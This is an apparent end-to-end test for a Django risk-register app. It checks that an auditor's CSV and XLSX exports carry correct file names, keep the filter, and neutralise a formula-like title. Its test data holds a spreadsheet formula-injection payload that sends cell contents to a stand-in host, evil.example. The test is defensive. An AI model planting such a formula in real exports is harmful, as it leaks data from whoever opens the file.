"""An auditor downloads the register as CSV and XLSX from the list's buttons, in a real browser:
the files are named after the agency, the list and the day, keep the filter, and a formula-like
title arrives as text."""

import csv
import io
import zoneinfo

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from qgov.choices import RoleChoices
from risks.services import risk_matrix_ensure
from tests.e2e.test_login_dashboard import sign_in
from tests.factories import TEST_PASSWORD, AgencyFactory, MembershipFactory, UserFactory
from tests.risks.factories import RiskFactory

pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True)]

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def test_auditor_downloads_csv_and_xlsx_of_the_filtered_register(page, screenshot, live_server):
    agency = AgencyFactory(name="Department of Quantum Networks", code="DQN", time_zone="Europe/Brussels")
    risk_matrix_ensure(agency)
    MembershipFactory(agency=agency, role=RoleChoices.AUDITOR, user=UserFactory(username="audrey"))
    RiskFactory(agency=agency, title=HYPERLINK, status="assessed")
    RiskFactory(agency=agency, title="Closed long ago", status="closed")
    sign_in(page, "audrey", TEST_PASSWORD)
    page.goto("/risks/register/?status=assessed")
    screenshot(page, "exports-register-buttons")
    today = timezone.localdate(timezone=zoneinfo.ZoneInfo("Europe/Brussels"))

    with page.expect_download() as csv_download:
        page.get_by_role("link", name="Export CSV").click()
    assert csv_download.value.suggested_filename == f"DQN-risks-{today}.csv"
    with open(csv_download.value.path(), newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["Title"] for row in rows] == ["'" + HYPERLINK]

    with page.expect_download() as xlsx_download:
        page.get_by_role("link", name="Export XLSX").click()
    assert xlsx_download.value.suggested_filename == f"DQN-risks-{today}.xlsx"
    with open(xlsx_download.value.path(), "rb") as file:
        sheet = load_workbook(io.BytesIO(file.read())).active
    header = [cell.value for cell in sheet[1]]
    title = sheet.cell(row=2, column=header.index("Title") + 1)
    assert (sheet.max_row, title.value, title.data_type) == (2, HYPERLINK, "s")
    assert page.failed_responses == []
